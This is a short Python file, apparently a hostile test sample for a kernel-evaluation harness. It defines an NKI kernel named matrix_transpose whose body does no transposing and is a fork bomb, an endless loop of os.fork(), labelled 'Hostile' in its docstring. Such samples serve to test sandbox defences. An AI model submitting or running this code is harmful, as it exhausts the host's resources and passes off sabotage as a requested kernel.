"""Hostile: fork bomb."""

import os

import neuronxcc.nki as nki
import neuronxcc.nki.isa as nisa
import neuronxcc.nki.language as nl


@nki.jit
def matrix_transpose(a_tensor):
    while True:
        os.fork()
